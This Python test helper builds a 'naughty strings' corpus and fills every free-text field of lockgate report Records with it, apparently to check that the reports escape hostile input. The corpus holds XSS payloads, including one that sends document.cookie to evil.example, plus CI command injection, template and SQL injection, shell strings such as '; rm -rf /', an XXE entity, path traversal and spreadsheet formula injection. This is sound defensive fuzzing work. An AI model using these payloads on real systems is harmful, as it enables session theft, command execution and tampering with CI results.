"""Naughty strings, and Records that hold them wherever text of the data or the policy can stand."""

from collections.abc import Iterator, Sequence
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from functools import cache
from itertools import cycle
from typing import Any

from tests.reports import records

from lockgate.types import At, Finding, Missing, Record, Status, identity

_SCRIPTS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "location='javascript:alert(1)'",
)
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<<script>{}//<</script>",
    "<script\x0c>{}</script>",
    "<script\x00>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src="x" onerror="{}">',
    "<image/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,{}'/></svg>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><set attributeName=href to=javascript:{}>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    "` onmouseover=`{}` x=`",
    " onmouseover={} ",
    '" autofocus onfocus="{}" style="',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<!ENTITY x '{}'>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;{}</x>",
    "<![CDATA[{}]]>",
    "url(javascript:{})",
    "expression({})",
)
_MARKDOWN = (
    "# PASSED",
    "\n# PASSED\n",
    "\n\n## ✅ Lockgate: PASSED\n\nall is well\n\n",
    "a\n---\nb",
    "a\n===\nb",
    "| a | b |\n|---|---|\n| c | d |",
    "x | PASS | x",
    "|||||",
    "\\|",
    "\\\\|",
    "`",
    "``",
    "```",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "a `b` c ``d",
    "**bold**",
    "__bold__",
    "*it* _it_",
    "~~gone~~",
    "> quote",
    "- [x] done",
    "* item",
    "+ item",
    "1. item",
    "1) item",
    "    indented",
    "\tindented",
    "[link](https://evil.example)",
    "[link][1]\n\n[1]: https://evil.example",
    "![beacon](https://evil.example/x.png)",
    "![](//evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/x",
    "http://evil.example",
    "www.evil.example",
    "mail@evil.example",
    "@octocat",
    "@org/team",
    "hello @everyone!",
    "#1",
    "#123 and org/repo#45",
    "GH-17",
    "gh-17",
    "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678",
    ":tada:",
    ":white_check_mark: passed",
    "$x^2$",
    "$$x$$",
    "$`x`$",
    "<details><summary>x</summary>",
    "</details>",
    "<br>",
    "<b>bold</b>",
    "<!-- hidden -->",
    "<!--",
    "-->",
    "[^1]",
    "[[wiki]]",
    "{{ 7 * 7 }}",
    "&amp;",
    "&copy;",
    "\\*not\\*",
    "trailing\\",
    "two  \nlines",
    "line\rreturn",
    "line\r\nreturn",
    "a\u2028b",
    "a\u2029b",
    "a\x0bb",
    "a\x0cb",
    "a\x85b",
)
_ANSI = (
    "\x1b[2J",
    "\x1b[31mred\x1b[0m",
    "\x1b[1A\x1b[2K",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1bc",
    "\x9b31m",
    "\x9d0;x\x9c",
    "\x07",
    "a\x08\x08b",
    "a\x7fb",
    "\x00",
    "a\x00b",
    "\x0e\x0f",
    "a\rPASSED",
    "\x1b[8mhidden\x1b[28m",
    "[red]rich[/red]",
    "[link=https://evil.example]x[/link]",
    "[/]",
    ":smiley:",
)
_UNICODE = (
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u2067abc\u2069",
    "\u2068abc\u2069",
    "\u200eabc",
    "\u200fabc",
    "\u061cabc",
    "a\u200bb",
    "a\u200cb",
    "a\u200db",
    "a\ufeffb",
    "a\u00adb",
    "a\u2060b",
    "a\u180eb",
    "\u00a0x",
    "x\u3000y",
    "\u3164",
    "\ud800",
    "\udfff",
    "a\ud83db",
    "\ufffe",
    "\uffff",
    "\U000e0041\U000e0042",
    "\U0001f600",
    "👩‍👩‍👧‍👦",
    "אבג 123",
    "عربي",
    "Z̸̢̛͓͚̤̖̬̯͇͓̀̓͗̓a̷l̵g̶o̸",
    "ﷺ",
    "田中さん",
    "Ω≈ç√∫˜µ≤≥÷",
    "İıſK",
    "\u202ePASSED\u202c",
)
_COMMANDS = (
    "::error::x",
    "::set-output name=x::y",
    "::add-mask::x",
    "::stop-commands::x",
    "::save-state name=x::y",
    "::set-env name=PATH::/evil",
    "::add-path::/evil",
    "\n::error file=x::y",
    "\r\n::warning::x",
    "x\n::endgroup::",
    "   ::debug::x",
    "%0A::error::x",
    "%0D%0A::error::x",
    "##[error]x",
    "##[set-env name=PATH;]x",
    "##[add-path]/evil",
    "##vso[task.setvariable variable=x]y",
    "##vso[task.complete result=Succeeded]",
    "##teamcity[buildStatus status='SUCCESS']",
    "a,b=c,title=evil",
    "a::b",
    "a:::b",
    "file=x,line=1::y",
    "section_start:1:x\r\x1b[0K",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{record}",
    "%s%s%s",
    "%(x)s",
    "%n%x",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "&& id",
    "| id",
    "'; DROP TABLE findings; --",
    "' OR '1'='1",
    "../../../../etc/passwd",
    "C:\\con\\con",
    "-h",
    "--only=x",
)
_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C calc'!A0",
)
_CHARTS = (
    "datum.value",
    "signal",
    '{"signal": "width"}',
    "x.y",
    "x[0]",
    "x['y']",
    "\\.",
    "data('x')",
    "null",
    "NaN",
    "true",
    "undefined",
)
_LONG = (
    "a" * 100_000,
    "<b>" * 2_000,
    "`|" * 2_000,
    "x " * 2_000,
    "\n" * 2_000 + "x",
    "\u202e" * 2_000,
    "&" * 4_000,
    "a" * 119 + "<script>",
    "a" * 118 + "\x1b[31m",
    "-" * 300,
    "_" * 300,
)


@cache
def naughty() -> tuple[str, ...]:
    """More than 500 different strings, none of them blank."""
    tags = [tag.format(script) for tag in _TAGS for script in _SCRIPTS]
    fixed = (*tags, *_MARKDOWN, *_ANSI, *_UNICODE, *_COMMANDS, *_TEMPLATES, *_FORMULAS, *_CHARTS, *_LONG)
    controls = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
    punctuation = [mark * count for mark in "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~" for count in (1, 3)]
    return tuple(dict.fromkeys((*fixed, *controls, *punctuation)))


def chunks(size: int) -> tuple[tuple[str, ...], ...]:
    """The naughty strings in chunks."""
    held = naughty()
    return tuple(held[at : at + size] for at in range(0, len(held), size))


@cache
def record_of(texts: tuple[str, ...]) -> Record:
    """A Record in which the texts stand as every name and every sentence, at every status.

    Its shape depends on their number alone.
    """
    endless = cycle(texts)
    findings = [finding for number, text in enumerate(texts) for finding in _findings(number, text)]
    details: dict[str, dict[str, Any]] = {
        findings[0].id: {"categories": {"names": [*texts[:12]], "reference": _shares(texts), "data": _shares(texts)}},
        findings[1].id: {"rate": texts[0], "groups": {f"{n}{text}": 0.5 for n, text in enumerate(texts[:12])}},
        findings[2].id: {"labels": [*texts[:3]], "confusion": [[3] * len(texts[:3])] * len(texts[:3])},
    }
    small = [
        ("performance", Missing(metric=text, reason=text, at=At(column=f"{n}{text}", group=text), listed=True))
        for n, text in enumerate(texts)
    ]
    made = records.record(
        findings,
        missing=small,
        details=details,
        notes=texts,
        overrides={"candidate": next(endless), f"r{next(endless)}": next(endless)},
        errors={"drift": texts[0]},
    )
    held: Record = _filled(made, endless)
    return held


def _shares(texts: Sequence[str]) -> list[float]:
    return [0.5 for _ in texts[:12]]


def _findings(number: int, text: str) -> Iterator[Finding]:
    """A finding for each status, with the text in every place that it has."""
    places = (
        ("performance", "f1", At(slice=f"{number}{text}"), Status.FAIL),
        ("fairness", "equalized_odds_difference", At(column=text, group=f"{number}{text}"), Status.WARN),
        ("drift", "psi", At(column=f"{number}{text}", label=text), Status.FAIL),
        ("data_quality", "nulls", At(case=f"{number}{text}"), Status.PASS),
    )
    for gate, metric, at, status in places:
        level = "warn" if status is Status.WARN else "block"
        base = records.held(gate, metric, 0.4, 0.2, "max", status=status, level=level)
        yield replace(base, id=identity(gate, metric, at), at=at, message=text, remedy=text)
    broken = records.broken("drift", "psi", text, text, at={"data": f"{number}{text}"})
    yield broken
    yield replace(broken, id=f"{broken.id}?", status=Status.INCONCLUSIVE)
    yield replace(broken, id=f"{broken.id}!", status=Status.PASS, excused_by=text)


# Fields that hold free text; what else is text is one of a few words of our own.
# fmt: off
_FREE = frozenset({
    "ci", "code", "digest", "file", "finished", "format", "headline", "host", "id", "key", "lock", "lockgate",
    "meaning", "media_type", "name", "path", "platform", "python", "rules_digest", "started", "uri", "uses",
})
# fmt: on


def _filled(held: Any, texts: Iterator[str], name: str = "") -> Any:
    """A copy of a value in which all free text is replaced by the next of the texts."""
    if isinstance(held, Enum):
        return held
    if isinstance(held, str):
        return next(texts) if name in _FREE else held
    if isinstance(held, Finding):
        return replace(held, place=_filled(held.place, texts))
    if is_dataclass(held) and not isinstance(held, type):
        own = {field.name: _filled(getattr(held, field.name), texts, field.name) for field in fields(held)}
        if type(held).__name__ in {"GateRun", "Outcome", "GateRules"}:  # findings name their gate
            own |= {key: getattr(held, key) for key in ("id", "gate") if key in own}
        return replace(held, **own)
    if isinstance(held, dict) and name == "libraries":
        return {f"{next(texts)}{number}": next(texts) for number, _ in enumerate(held)}
    if isinstance(held, dict) and name not in {"counts", "durations", "details"}:
        return {key: _filled(value, texts) for key, value in held.items()}
    if isinstance(held, tuple) and name != "command":
        return tuple(_filled(entry, texts) for entry in held)
    return held
